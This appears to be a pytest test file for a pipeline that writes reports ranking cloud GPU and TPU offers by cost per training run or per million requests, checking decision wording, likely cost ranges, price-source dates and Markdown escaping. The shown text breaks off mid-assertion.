"""The reports a person acts on: a decision per workload, a short table, the ranking as CSV, quarantine by value,
wording from templates with text from data escaped."""

from __future__ import annotations

import datetime as dt
import html
import re

import duckdb
import polars as pl
import pytest
from builders import discard, open_copy
from conftest import AS_OF
from markdown_it import MarkdownIt

from flows import chart_kit, offers_page, relations, reports
from flows.formatting import figures, hours, md_code, md_escape, md_line, ratio, signed_usd, time_to_train, usd
from flows.report_templates import csv_text
from flows.warehouse import fetch_dicts

TRAINING_DECISION = (
    "- **[gpt3-175b-pretrain](gpt3-175b-pretrain.md)**: pick gcp tpu-v6e-8 (us-central1, spot, bf16, calibrated): "
    "531.15 USD per completed run (likely 338.17 to 848.08; price from gcp_billing as of 2026-10-01; fitted from "
    "benchmarks as of 2026-11-01 (newest)). On spot, "
    "0.0330 reclaims are expected and 1.32% of the run is redone (0.2 reclaims an instance-month: "
    "declared-assumption, no published rate: AWS's top band assumed). Runner-up aws p5.48xlarge (us-east-1, spot, "
    "fp8, measured): 560.62 (price from aws_spot as of 2026-11-20; benchmark as of 2024-06-12), 5.5% more. The "
    "runner-up was measured at fp8, what its submission trained at (models.yaml trained_at); the workload asks bf16. "
    "**Too close to call**: the two overlap within "
    "the estimates' error; a measured run of this "
    "workload on tpu-v6e (gcp tpu-v6e-8) would settle it. The runner-up's spot price is us-east-1a's, the cheapest "
    "of 2 zones (at the dearest, 21.15 USD/h, it would cost 1,157.92). Choosing the cheapest chip-hour, aws "
    "trn1.32xlarge (us-east-1, spot, bf16, estimated) at 0.152 USD per chip-hour (price from aws_spot as of "
    "2026-11-20), would cost 1.51x per completed run: +273.45 USD (804.60, likely 468.71 to 825.08: it may be cheaper "
    "than the pick).")


def _ranking_row(page: str, rank: int, offer: str, term: str) -> list[str]:
    """A row of a page's full ranking table, as cells."""
    full = page.split("## Full ranking", 1)[1]
    line = next(line for line in full.splitlines() if line.startswith(f"| {rank} | {offer} |") and f"| {term} |" in line)
    return [cell.strip() for cell in line.strip("|").split("|")]


def test_the_index_opens_with_a_decision_per_workload_and_the_money_of_the_hourly_ranking(flow_run):
    index = (flow_run.reports / "index.md").read_text()
    assert index.index("## Decisions") < index.index("## What changed") < index.index("## Workloads")
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    # the full ranking: rank 1 is tpu-v6e-8 spot at 531.15 USD per completed run (calibrated on the v6e's published
    # throughputs, each an MFU by 6 x N: 466.13 before, at MaxText's own MFUs; its likely range is 531.15 x 0.636682 =
    # 338.17 to 531.15 x 1.596699 = 848.08, the TPU training back-test's smallest and largest cost ratios: TPU v5p's
    # MaxText Llama-2-70B predicted from Google's int8 gpt3 runs, and the reverse); rank 2, on
    # another offer, p5.48xlarge spot at 560.62 (measured; its 50.73-minute run is shorter than the hourly checkpoint
    # interval, so 64 instances redo 64 x 0.2 / 730 x (0.845466 / 2 + 0.25) = 1.180% of the run): 560.62 / 531.15 - 1
    # = 0.0555, "5.5% more", and inside the pick's range: too close to call; the cheapest
    # chip-hour (chip-hour rank 1) is trn1.32xlarge spot at 0.152 USD and 804.60 per run: 804.60 - 531.15 = +273.45
    # USD, 804.60 / 531.15 = 1.51x; an uncalibrated Trainium estimate, its likely range is the training back-test's
    # uncalibrated cost ratios (every family's: Trainium has none), 804.60 x 0.582533 = 468.71 to 804.60 x 1.025459 =
    # 825.08, whose low end is below the pick's high end 848.08 (and its 531.15): it may be the cheaper one
    assert _ranking_row(gpt3, 1, "gcp tpu-v6e-8", "spot")[10:12] == ["531.15", "338.17 to 848.08"]
    assert _ranking_row(gpt3, 2, "aws p5.48xlarge", "spot")[10] == "560.62"
    trn1 = _ranking_row(gpt3, 4, "aws trn1.32xlarge", "spot")
    assert (trn1[5], trn1[6], trn1[10], trn1[11]) == ("0.152", "1", "804.60", "468.71 to 825.08")
    assert TRAINING_DECISION in index
    # llama2-70b-chat: a3-highgpu-8g on demand 604.18 USD per million successful requests; the cheapest chip-hour,
    # inf2.48xlarge on demand at 1.082 USD, serves it for 1,639.05: 1,639.05 - 604.18 = +1,034.87; 1,639.05 / 604.18
    # = 2.71x; the runner-up Azure ND96isr_MI300X_v5 on demand (MLPerf v5.1 Server, at its unverified 48.00 USD/h) at
    # 673.40: 673.40 / 604.18 - 1 = 0.115, "11% more"; it is the cheapest chip-hour of those ranked: inf2.xlarge
    # (0.758) and g6.2xlarge (0.978) on demand are cheaper, and excluded (the 70B does not fit one chip); inf2.48xlarge
    # is an uncalibrated estimate: 1,639.05 x 0.223161 = 365.77 to 1,639.05 x 2.399605 = 3,933.07 (the GPU serving
    # back-test's uncalibrated cost ratios, lent to Inferentia), reaching below the measured pick's 604.18
    chat = (flow_run.reports / "llama2-70b-chat.md").read_text()
    inf2 = next(line for line in chat.split("## Full ranking", 1)[1].splitlines()
                if line.startswith("| ") and "| aws inf2.48xlarge |" in line and "| bf16 |" in line)
    assert "| 1.082 | 1 | bf16 |" in inf2 and "| 1,639.05 |" in inf2
    assert ("- **[llama2-70b-chat](llama2-70b-chat.md)**: pick gcp a3-highgpu-8g (us-central1, on_demand, fp16, "
            "measured): 604.18 USD per million successful requests (price from gcp_billing as of 2026-10-01; benchmark "
            "as of 2024-08-28). Runner-up azure Standard_ND96isr_MI300X_v5 (eastus, on_demand, fp8, measured): 673.40 "
            "(price from azure_retail as of 2026-09-27; benchmark as of 2025-09-09), 11% more. **The runner-up's price "
            "is unverified** (catalogs/sources.yaml "
            "says why). Choosing the cheapest chip-hour among the ranked candidates, "
            "aws inf2.48xlarge (us-east-1, on_demand, bf16, estimated) at 1.082 USD per chip-hour (price from "
            "aws_pricing as of 2026-09-10), would cost 2.71x per million successful requests: +1,034.87 USD (1,639.05, "
            "likely 365.77 to 3,933.07: it may be cheaper than the pick). 2 offers cheaper per chip-hour are "
            "excluded, the cheapest aws inf2.xlarge (us-east-1, on_demand) at 0.758 USD per chip-hour (price from "
            "aws_pricing as of 2026-09-10; 138 GB of bf16 weights + KV cache need 5 chips of 34.36 GB (90% usable); "
            "inf2.xlarge has 1).") in index
    assert ("| [gpt3-175b-pretrain](gpt3-175b-pretrain.md) | training | completed-run USD | gcp tpu-v6e-8 (spot, "
            "tpu-v6e) | 531.15 | calibrated | aws trn1.32xlarge (spot, 0.152) | +273.45 (1.51x; too close to call: it "
            "may be cheaper) |") in index
    assert "reversal" not in index.split("## Workloads", 1)[1].split("## Offers", 1)[0]
    # llama31-405b-chat's pick is that MI300X offer (unverified), its runner-up a3-highgpu-8g (verified): said once
    chat_405b = next(line for line in index.splitlines() if line.startswith("- **[llama31-405b-chat]"))
    assert "**Its price is unverified**" in chat_405b and "runner-up's price is unverified" not in chat_405b


def test_a_spot_pick_priced_at_its_cheapest_zone_says_what_the_dearest_would_cost(flow_run):
    # llama2-70b-batch's pick, p5.48xlarge spot in us-east-1, takes us-east-1a's 10.24 USD/h; us-east-1b asks 21.15:
    # 21.15 / (3,066 tokens/s x 8 chips x 3,600 s) x 1e6 = 0.239522, / (1 - 1 x 0.2 / 730 x 0.25 h lost restarting)
    # = 0.239538, "0.240": more than the runner-up's 0.123 (p6-b200.48xlarge spot, itself at us-east-1a's price
    # of 2 zones; at its dearest, 17.02 USD/h: 0.123290 x 17.02 / 13.03 = 0.161)
    clause = ("The pick's spot price is us-east-1a's, the cheapest of 2 zones; at the dearest, 21.15 USD/h, it would "
              "cost 0.240 and the runner-up (0.123) would lead. The runner-up's spot price is us-east-1a's, the "
              "cheapest of 2 zones (at the dearest, 17.02 USD/h, it would cost 0.161).")
    page = (flow_run.reports / "llama2-70b-batch.md").read_text()
    decision = next(line for line in page.splitlines() if line.startswith("**Decision**"))
    assert clause in decision
    index = (flow_run.reports / "index.md").read_text()
    assert clause in next(line for line in index.splitlines() if line.startswith("- **[llama2-70b-batch]"))
    # an on-demand pick and runner-up (llama2-70b-chat) say nothing of zones
    assert "zones" not in next(line for line in index.splitlines() if line.startswith("- **[llama2-70b-chat]"))


def test_the_decision_says_where_and_as_of_when_its_prices_and_benchmarks_are(flow_run):
    """A reader acting on the Decision alone sees how old each price (and a measured or scaled figure's benchmark)
    is: the dates the Full ranking's last two columns give."""
    # gpt3-175b-pretrain: the pick, tpu-v6e-8 spot, is priced from gcp_billing's SKU file of 2026-10-01 (sources.yaml
    # as_of) and calibrated on tpu-v6e's 3 published MFU results (published_training.csv rows 2-4, as of 2026-11-01:
    # the newest of them is the date it names); the runner-up, p5.48xlarge spot, from aws_spot's history of
    # 2026-11-20, and measured by MLPerf Training v4.0's gpt3 result of NVIDIA Eos_n64 (the summary file's as_of,
    # 2024-06-12)
    page = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    decision = next(line for line in page.splitlines() if line.startswith("**Decision**"))
    assert ("531.15 USD per completed run (likely 338.17 to 848.08; price from gcp_billing as of 2026-10-01; fitted "
            "from benchmarks as of 2026-11-01 (newest)). On spot,") in decision
    assert ("Runner-up aws p5.48xlarge (us-east-1, spot, fp8, measured): 560.62 (price from aws_spot as of "
            "2026-11-20; benchmark as of 2024-06-12), 5.5% more.") in decision
    pick, runner_up = _ranking_row(page, 1, "gcp tpu-v6e-8", "spot"), _ranking_row(page, 2, "aws p5.48xlarge", "spot")
    assert pick[-2] == "gcp_billing (2026-10-01)" and runner_up[-2] == "aws_spot (2026-11-20)"
    assert runner_up[-1] == "MLPerf Training gpt3: NVIDIA Eos_n64 (512 chips) (2024-06-12)"
    # the calibrated pick's label names the date once, in its own words (not again as "(2026-11-01)" at its end)
    assert pick[-1] == ("calibrated MFU 0.475 (family default 0.45 x 1.05 fitted from 3 published MFU results of "
                        "tpu-v6e as of 2026-11-01 (newest)), 0.395 effective at 64 instances; no network figure for "
                        "tpu-v6e-8: flat 0.97 per doubling of 64 instances (declared)")
    # llama31-70b-pretrain-15t: the pick is scaled from the published tpu-v6e throughput of published_training.csv
    # (as_of 2026-11-01); the runner-up, p6-b200.48xlarge spot, is estimated from specs: a price date alone
    page = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    assert ("2,946,272.33 USD per completed run (likely 1,875,839.74 to 4,704,311.30; price from gcp_billing as of "
            "2026-10-01; benchmark as of 2026-11-01). On spot,") in page
    assert "3,530,202.83 (likely 2,553,709.83 to 3,583,962.26; price from aws_spot as of 2026-11-20), 20% more." in page
    # llama31-405b-chat: both estimated; the pick's price is azure_retail's eastus MI300X file of 2026-09-27
    # (unverified, which the next sentence says), the runner-up's gcp_billing's of 2026-10-01
    page = (flow_run.reports / "llama31-405b-chat.md").read_text()
    assert ("5,387.21 USD per million successful requests (likely 1,202.21 to 12,927.17; price from azure_retail as "
            "of 2026-09-27)") in page
    assert "9,666.92 (likely 2,157.28 to 23,196.80; price from gcp_billing as of 2026-10-01), 79% more." in page
    assert _ranking_row(page, 1, "azure Standard_ND96isr_MI300X_v5", "on_demand")[-2] == (  # price source (as of)
        "azure_retail (2026-09-27), UNVERIFIED")


def test_a_pick_whose_split_is_not_charged_says_so_in_the_decision(flow_run):
    # llama31-405b-chat's pick runs fp8 Llama-3.1-405B on 8 MI300X of one instance (TP 8); accelerators.yaml gives
    # mi300x-192gb no link_gb_per_s, so its all-reduces are not charged (the row's label says so); the runner-up's 8
    # H100 all-reduce over NVLink (450 GB/s each way, 23.4% of the time): charged, nothing said of it
    page = (flow_run.reports / "llama31-405b-chat.md").read_text()
    assert "TP 8, batch 451; no link figure for mi300x-192gb: the split is not charged" in _ranking_row(
        page, 1, "azure Standard_ND96isr_MI300X_v5", "on_demand")[-1]  # benchmark or estimate (as of)
    decision = next(line for line in page.splitlines() if line.startswith("**Decision**"))
    assert ("(likely 1,202.21 to 12,927.17; price from azure_retail as of 2026-09-27), with its 8-chip split's "
            "communication not charged (no link figure for mi300x-192gb). **Its price is unverified**") in decision
    assert "23,196.80; price from gcp_billing as of 2026-10-01), 79% more. **Too close to call**" in decision
    assert decision.count("not charged") == 1
    # llama31-8b-chat-large's pick: the same chip at TP 4; the index quotes each Decision as its page does
    index = (flow_run.reports / "index.md").read_text()
    assert ("47.14 USD per million successful requests (likely 10.52 to 113.11; price from azure_retail as of "
            "2026-09-27), with its 4-chip split's communication not charged (no link figure for "
            "mi300x-192gb).") in index
    assert index.count("communication not charged") == 2
    # the flag is carried, not read from the label: the same rows, and only those, say so in their label
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        flags = con.execute("select split_uncharged, benchmark_label like '%the split is not charged%', count(*) "
                            "from marts.rankings group by all order by all").fetchall()
    finally:
        con.close()
    assert [(flag, said) for flag, said, _ in flags] == [(False, False), (True, True)]


def test_the_hosted_api_section_gives_the_caveats_of_the_self_hosted_offer_it_compares(flow_run):
    # llama31-8b-chat-large's Hosted API compares Bedrock's Llama 3.1 8B with its pick, Standard_ND96isr_MI300X_v5 on
    # demand: its 48.00 USD/h comes from snapshot/azure_retail/eastus.page-mi300x.json, which catalogs/sources.yaml
    # marks unverified: true, and its fp8 replica is TP 4 on mi300x-192gb, which catalogs/accelerators.yaml gives no
    # link_gb_per_s (the ranking row's label: "TP 4, batch 4,096; no link figure for mi300x-192gb: the split is not
    # charged"). The section's verdict (47.14 against the API's 284.44) carries both, as the Decision does
    page = (flow_run.reports / "llama31-8b-chat-large.md").read_text()
    section = page.split("## Hosted API", 1)[1].split("\n## ", 1)[0]
    assert ("and the self-hosted cost's likely range, 10.52 to 113.11, stays below the API's; of the self-hosted "
            "offer, **its price is unverified** (catalogs/sources.yaml says why) and its 4-chip split's communication "
            "is not charged (no link figure for mi300x-192gb). Self-hosting is cheaper at any mean traffic") in section
    # llama31-8b-chat-small compares the API with aws inf2.xlarge (one inferentia2, aws_pricing, verified): neither,
    # though its ranking holds the MI300X rows that carry both flags: the compared offer's flags, not the workload's
    page = (flow_run.reports / "llama31-8b-chat-small.md").read_text()
    section = page.split("## Hosted API", 1)[1].split("\n## ", 1)[0]
    assert "**aws inf2.xlarge**" in section
    assert "unverified" not in section and "not charged" not in section and "of the self-hosted offer" not in section
    # the flags are the warehouse's, carried from the compared candidate's ranking row
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        rows = con.execute("select a.workload_id, a.self_hosted_price_unverified, a.self_hosted_split_uncharged, "
                           "a.self_hosted_chips, r.price_unverified, r.split_uncharged, r.chips "
                           "from marts.api_comparisons as a inner join marts.rankings as r "
                           "on r.as_of = a.as_of and r.candidate_id = a.self_hosted_candidate_id "
                           "order by all").fetchall()
    finally:
        con.close()
    assert rows == [("llama31-8b-chat-large", True, True, 4, True, True, 4),
                    ("llama31-8b-chat-small", False, False, 1, False, False, 1)]


def test_the_hosted_api_section_says_the_compared_offers_price_is_not_fresh_as_the_decision_does(flow_run, tmp_path):
    # the same run, had azure_retail not been refreshed: llama31-8b-chat-large's compared offer (its pick, priced by
    # azure_retail) is not fresh, said in the section as in the Decision; chat-small's (aws_pricing) is
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update ops.source_loads set status = 'stale' where as_of = ? and source_id = 'azure_retail'",
                    [AS_OF])
        pages = reports.render(con, AS_OF)
    finally:
        discard(con)
    large = pages["llama31-8b-chat-large.md"]
    assert "**Its price is not fresh**: this run could not refresh azure_retail" in large  # the Decision
    section = large.split("## Hosted API", 1)[1].split("\n## ", 1)[0]
    assert ("; of the self-hosted offer, **its price is not fresh** (this run could not refresh azure_retail) and "
            "**its price is unverified** (catalogs/sources.yaml says why) and its 4-chip") in section
    small = pages["llama31-8b-chat-small.md"].split("## Hosted API", 1)[1].split("\n## ", 1)[0]
    assert "not fresh" not in small


def test_a_runner_up_whose_split_is_not_charged_says_so_and_the_price_source_is_escaped():
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision
    row = {"outcome_metric": "usd_per_million_tokens", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
           "pick_region": "us-east-1", "pick_pricing_term": "on_demand", "pick_precision": "fp8",
           "pick_basis": "estimated", "pick_outcome_value": 1.0, "pick_outcome_low": 0.5, "pick_outcome_high": 2.0,
           "pick_candidate_id": "a", "pick_price_source_id": "own*sheet", "pick_price_as_of": AS_OF,
           "pick_benchmark_as_of": None, "pick_split_uncharged": False, "pick_chips": 8,
           "runner_up_offer_id": "b", "runner_up_candidate_id": "b", "runner_up_cloud": "aws",
           "runner_up_instance_type": "trn1.32xlarge", "runner_up_region": "us-east-1",
           "runner_up_pricing_term": "on_demand", "runner_up_precision": "fp8", "runner_up_basis": "measured",
           "runner_up_outcome_value": 1.2, "runner_up_outcome_low": None, "runner_up_outcome_high": None,
           "runner_up_gap": 0.2, "runner_up_price_source_id": "aws_pricing", "runner_up_price_as_of": AS_OF,
           "runner_up_benchmark_as_of": AS_OF.replace(year=2025), "runner_up_split_uncharged": True,
           "runner_up_chips": 16, "runner_up_accelerator_id": "trainium*1", "too_close_to_call": False,
           "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 6.88}
    # the pick: its band, then its price's source (escaped) and date; no benchmark date for an estimate, and its
    # charged split says nothing; the runner-up: no band (measured), its price and benchmark dates, then the 16 chips of
    # its split, not charged (the chip escaped too)
    assert str(decision(row)) == (
        "pick aws p5.48xlarge (us-east-1, on_demand, fp8, estimated): 1.000 USD per million output tokens (likely "
        "0.500 to 2.000; price from own\\*sheet as of 2026-11-30). Runner-up aws trn1.32xlarge (us-east-1, "
        "on_demand, fp8, measured): 1.200 (price from aws_pricing as of 2026-11-30; benchmark as of 2025-11-30), "
        "20% more, with its 16-chip split's communication not charged (no link figure for trainium\\*1). The pick "
        "is also the cheapest chip-hour (6.880 USD): ranking by the hourly price picks the same offer, no dearer per "
        "outcome.")


CHIP_HOUR_ROW = {
    "outcome_metric": "usd_per_million_tokens", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
    "pick_region": "us-east-1", "pick_pricing_term": "on_demand", "pick_precision": "fp8", "pick_basis": "measured",
    "pick_outcome_value": 1.0, "pick_outcome_low": None, "pick_outcome_high": None, "pick_candidate_id": "a",
    "runner_up_offer_id": None, "is_chip_hour_pick_same_offer": False, "chip_hour_pick_cloud": "aws",
    "chip_hour_pick_instance_type": "trn1.32xlarge", "chip_hour_pick_region": "us-east-1",
    "chip_hour_pick_pricing_term": "on_demand", "chip_hour_pick_precision": "bf16",
    "chip_hour_pick_basis": "estimated", "chip_hour_pick_usd_per_chip_hour": 1.344, "chip_hour_pick_outcome_value": 1.5,
    "chip_hour_pick_ratio": 1.5, "chip_hour_pick_extra_usd": 0.5,
    "chip_hour_pick_price_source_id": "aws_pricing", "chip_hour_pick_price_as_of": AS_OF}


@pytest.mark.parametrize(("band", "ending"), [
    # no band (a measured cheapest chip-hour): nothing more than before
    ({"chip_hour_pick_outcome_low": None, "chip_hour_pick_outcome_high": None, "chip_hour_pick_may_cost_less": False},
     "+0.500 USD."),
    # a band, 1.200 to 3.000, wholly above the pick's 1.000: its range, and the extra stands
    ({"chip_hour_pick_outcome_low": 1.2, "chip_hour_pick_outcome_high": 3.0, "chip_hour_pick_may_cost_less": False},
     "+0.500 USD (1.500, likely 1.200 to 3.000)."),
    # a band reaching down to 0.600, below the pick's 1.000 (marts.decisions found the overlap): not settled
    ({"chip_hour_pick_outcome_low": 0.6, "chip_hour_pick_outcome_high": 3.0, "chip_hour_pick_may_cost_less": True},
     "+0.500 USD (1.500, likely 0.600 to 3.000: it may be cheaper than the pick)."),
    # no band of its own (measured, 1.500), inside the pick's band (0.700 to 1.600): not settled either
    ({"chip_hour_pick_outcome_low": None, "chip_hour_pick_outcome_high": None, "chip_hour_pick_may_cost_less": True,
      "pick_outcome_low": 0.7, "pick_outcome_high": 1.6},
     "+0.500 USD (1.500, within the pick's likely range: it may be cheaper than the pick)."),
    # a calibrated band whose factor no leave-one-out comparison tested, and the overlap
    ({"chip_hour_pick_outcome_low": 0.6, "chip_hour_pick_outcome_high": 3.0, "chip_hour_pick_may_cost_less": True,
      "chip_hour_pick_band_untested": True},
     ("+0.500 USD (1.500, likely 0.600 to 3.000, not back-tested: factor from one setup; it may be cheaper than the "
      "pick).")),
])
def test_the_cheapest_chip_hour_gives_its_likely_range_and_says_where_it_may_be_cheaper(band, ending):
    """The review's finding: "would cost 1.51x per completed run: +273.45 USD" was said as settled although the
    cheapest chip-hour's range reached below the pick's figure. Its figure 1.500 = 1.5x the pick's 1.000, +0.500."""
    sentence = str(reports.MARKDOWN.get_template("_sentences.j2").module.decision(CHIP_HOUR_ROW | band))
    assert sentence.endswith(
        "No other offer can run it. Choosing the cheapest chip-hour, aws trn1.32xlarge (us-east-1, on_demand, bf16, "
        "estimated) at 1.344 USD per chip-hour (price from aws_pricing as of 2026-11-30), would cost 1.50x per million "
        "output tokens: " + ending)


def test_the_cheapest_chip_hour_and_the_cheapest_excluded_offer_name_their_price_source_and_date():
    """A review's finding: the decision quoted the cheapest chip-hour's and the cheapest excluded offer's price per
    chip-hour with no source or date, where the pick's and the runner-up's name both. Priced as the pick was (same
    source, same date): said in four words; another date or source: named, escaped."""
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision
    excluded = {"cheaper_excluded_offers": 1, "cheapest_excluded_cloud": "aws",
                "cheapest_excluded_instance_type": "inf2.xlarge", "cheapest_excluded_region": "us-east-1",
                "cheapest_excluded_pricing_term": "on_demand", "cheapest_excluded_usd_per_chip_hour": 0.758,
                "cheapest_excluded_reason": "needs 5 chips", "cheapest_excluded_price_source_id": "own|sheet",
                "cheapest_excluded_price_as_of": AS_OF.replace(day=29), "chip_hour_pick_outcome_low": None,
                "chip_hour_pick_outcome_high": None, "chip_hour_pick_may_cost_less": False}
    same = CHIP_HOUR_ROW | excluded | {"pick_price_source_id": "aws_pricing", "pick_price_as_of": AS_OF}
    assert str(decision(same)).endswith(
        "at 1.344 USD per chip-hour (the pick's price source and date), would cost 1.50x per million output tokens: "
        "+0.500 USD. One offer cheaper per chip-hour is excluded: aws inf2.xlarge (us-east-1, on_demand) at 0.758 USD "
        "per chip-hour (price from own\\|sheet as of 2026-11-29; needs 5 chips).")
    # the same source a day older is another date: named
    older = same | {"pick_price_as_of": AS_OF.replace(day=29)}
    assert "at 1.344 USD per chip-hour (price from aws_pricing as of 2026-11-30), would cost" in str(decision(older))
    # priced as the pick was: the excluded offer too
    as_pick = same | {"cheapest_excluded_price_source_id": "aws_pricing", "cheapest_excluded_price_as_of": AS_OF}
    assert str(decision(as_pick)).endswith("at 0.758 USD per chip-hour (the pick's price source and date; needs 5 chips).")


def test_a_pick_and_a_runner_up_whose_band_no_leave_one_out_comparison_tested_say_so_beside_it():
    row = CHIP_HOUR_ROW | {
        "pick_basis": "calibrated", "pick_outcome_low": 0.8, "pick_outcome_high": 1.25, "pick_band_untested": True,
        "runner_up_offer_id": "b", "runner_up_candidate_id": "b", "runner_up_cloud": "aws",
        "runner_up_instance_type": "g6e.12xlarge", "runner_up_region": "us-east-1",
        "runner_up_pricing_term": "on_demand", "runner_up_precision": "bf16", "runner_up_basis": "calibrated",
        "runner_up_outcome_value": 1.2, "runner_up_outcome_low": 0.96, "runner_up_outcome_high": 1.5,
        "runner_up_band_untested": False, "runner_up_gap": 0.2, "too_close_to_call": False,
        "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 6.88}
    sentence = str(reports.MARKDOWN.get_template("_sentences.j2").module.decision(row))
    assert sentence.startswith(
        "pick aws p5.48xlarge (us-east-1, on_demand, fp8, calibrated): 1.000 USD per million output tokens (likely "
        "0.800 to 1.250, not back-tested: factor from one setup). Runner-up aws g6e.12xlarge (us-east-1, on_demand, "
        "bf16, calibrated): 1.200 (likely 0.960 to 1.500), 20% more.")
    # the tables say it the same way (flows/reports.py likely_range)
    assert reports.likely_range({"outcome_low": 0.8, "outcome_high": 1.25, "band_untested": True}) == (
        "0.800 to 1.250 (not back-tested: factor from one setup)")
    assert reports.likely_range({"outcome_low": 0.8, "outcome_high": 1.25, "band_untested": False}) == "0.800 to 1.250"


def test_the_cheapest_chip_hour_that_may_be_cheaper_is_said_so_in_the_mart_the_index_table_and_the_chart(flow_run):
    """marts.decisions chip_hour_pick_may_cost_less, by too_close_to_call's rule (bands_overlap): the pick's high end
    (its figure when measured) at or above the cheapest chip-hour's low end; never where both pick one offer."""
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        rows = {r["workload_id"]: r for r in fetch_dicts(con, """
            select workload_id, pick_outcome_high, chip_hour_pick_outcome_low, chip_hour_pick_outcome_high,
                chip_hour_pick_may_cost_less, chip_hour_pick_band_untested
            from marts.decisions""")}
    finally:
        con.close()
    # gpt3-175b-pretrain: trn1.32xlarge spot 804.60 x 0.582533 = 468.71 to x 1.025459 = 825.08 (the uncalibrated
    # training ratios), reaching the pick's high end 848.08; llama2-70b-batch: trn1.32xlarge spot 0.338 x 0.223161 =
    # 0.0755, below the measured pick's 0.116 (no band: its figure); llama31-8b-pretrain-1t: tpu-v5litepod-8 spot
    # 43,193.03 x 0.582533 = 25,161.39, below the pick's high end 33,683.07; the three services' inf2 and trn1
    # estimates likewise (x 0.223161). The other three pick the cheapest chip-hour itself
    gpt3 = rows["gpt3-175b-pretrain"]
    assert (gpt3["chip_hour_pick_outcome_low"], gpt3["chip_hour_pick_outcome_high"]) == (
        pytest.approx(468.705, abs=1e-3), pytest.approx(825.082, abs=1e-3))
    assert gpt3["pick_outcome_high"] == pytest.approx(848.081, abs=1e-3)
    assert rows["llama2-70b-batch"]["chip_hour_pick_outcome_low"] == pytest.approx(0.0754507, abs=1e-7)
    assert {w for w, r in rows.items() if r["chip_hour_pick_may_cost_less"]} == {
        "gpt3-175b-pretrain", "llama2-70b-batch", "llama2-70b-chat", "llama31-405b-chat", "llama31-8b-chat-large",
        "llama31-8b-pretrain-1t"}
    assert not any(r["chip_hour_pick_band_untested"] for r in rows.values())
    index = (flow_run.reports / "index.md").read_text()
    assert "| aws trn1.32xlarge (spot, 0.152) | +0.222 (2.92x; too close to call: it may be cheaper) |" in index
    assert "| aws inf2.xlarge (on_demand, 0.758) | nothing (same offer) |" in index
    gpt3_page = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    assert ("the cheapest chip-hour, aws trn1.32xlarge (spot), costs 1.51x as much per completed run (too close to "
            "call: it may be cheaper)._") in gpt3_page
    small = (flow_run.reports / "llama31-8b-chat-small.md").read_text()
    assert "and is also the cheapest chip-hour._" in small and "may be cheaper" not in small


def test_where_the_hourly_price_disagrees_a_pair_too_close_to_call_says_so_as_the_decision_does(flow_run):
    """The review's finding: the Decision said trn1.32xlarge "may be cheaper than the pick" while the section below
    stated the pick's lead over it as settled ("0.660x as much per outcome"). A pair is too close to call by the
    Decision's rule (bands_overlap): the one's likely range, or its figure where measured, reaching the other's."""
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    # tpu-v6e-8 spot: 531.15, likely 338.17 to 848.08; trn1.32xlarge spot: 804.60, likely 468.71 to 825.08;
    # 848.08 >= 468.71: too close to call
    assert ("It beats 5 candidates that are cheaper per chip-hour. Too close to call: its likely range, 338.17 to "
            "848.08, reaches aws trn1.32xlarge's likely range, 468.71 to 825.08.\n") in gpt3
    # p5.48xlarge spot, measured (no band): its figure 560.62 >= trn1's low end 468.71
    assert ("It beats 12 candidates that are cheaper per chip-hour. Too close to call: its figure, 560.62, reaches "
            "aws trn1.32xlarge's likely range, 468.71 to 825.08.\n") in gpt3
    # p6-b200 spot (likely 2,553,709.83 to 3,583,962.26) against p5.48xlarge spot (likely 3,852,492.15 to
    # 7,587,968.52) on llama31-70b-pretrain-15t: 3,583,962.26 < 3,852,492.15, the lead stands
    pretrain = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    line = next(line for line in pretrain.splitlines()
                if line.startswith("- **aws p6-b200.48xlarge** (us-east-1, spot"))
    assert line.endswith("It beats 2 candidates that are cheaper per chip-hour.")


def test_the_index_says_fp16_counts_as_bf16_beside_the_decisions_that_pick_it(flow_run):
    """The review's finding: the index's llama2-70b-batch Decision picks "fp16, measured" beside "fp4 is not among the
    precisions the workload lists (bf16, fp8 ...)", and only the workload pages said fp16 counts as bf16."""
    lines = {line.split("]")[0].removeprefix("- **["): line
             for line in (flow_run.reports / "index.md").read_text().splitlines() if line.startswith("- **[")}
    tail = " Precisions: fp16 counts as bf16 (the same 16-bit width); the workload lists bf16, fp8."
    assert lines["llama2-70b-batch"].endswith(tail) and lines["llama2-70b-chat"].endswith(tail)
    assert "Precisions:" not in lines["gpt3-175b-pretrain"]  # every precision it ranks is listed by name


def test_the_time_to_train_keeps_three_significant_figures_from_ten_hours():
    # whole hours from 100 h (1,322.86 h: 1,323 h, as before); one decimal from 10 h (10.2796 h: 10.3, not 10: whole
    # hours lost up to 5% there); minutes to the hundredth below 600 (114.47 min)
    assert [hours(h) for h in (1322.86, 100.0, 99.54, 57.92, 10.2796, 9.996, None)] == [
        "1,323", "100", "99.5", "57.9", "10.3", "10.0", "—"]
    assert [time_to_train(m) for m in (114.47, 599.99, 600.0, 616.7763, 79_371.6)] == [
        "114.47 min", "599.99 min", "10.0 h", "10.3 h", "1,323 h"]


def test_an_energy_figure_keeps_three_significant_figures_as_hours_do():
    # the rule hours follow (flows/formatting.py figures): 3.1549 kWh -> 3.15, 2.7658 -> 2.77 (whole kWh wrote both
    # "3"); 0.0369985 kWh per million tokens -> 0.0370 (three decimals wrote 0.037); 250.43 -> 250; 33.452 -> 33.5
    assert [reports._energy(v) for v in (3.1548798, 2.7657546, 0.0369985, 250.4276, 33.452, None)] == [
        "3.15", "2.77", "0.0370", "250", "33.5", "no published power"]
    # 0.9996 rounds to 1.00 at three figures (not "1.000", four)
    assert [figures(v) for v in (0.00996442, 0.128313, 0.9996, 0.0, -0.5)] == ["0.00996", "0.128", "1.00", "0.00",
